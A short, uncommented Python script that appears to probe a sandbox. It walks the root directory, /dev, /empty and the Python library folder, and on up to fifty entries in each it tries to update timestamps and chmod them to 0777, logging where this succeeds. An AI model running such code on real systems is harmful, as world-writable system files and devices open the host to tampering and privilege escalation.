import os

answer = []
for folder in ("/", "/dev", "/empty", os.path.dirname(os.__file__)):
    for name in [folder, *[os.path.join(folder, name) for name in os.listdir(folder) if name != "tmp"][:50]]:
        try:
            os.utime(name)
            answer.append(name)
        except OSError:
            pass
        try:
            os.chmod(name, 0o777, follow_symlinks=True)
            answer.append(name)
        except OSError:
            pass
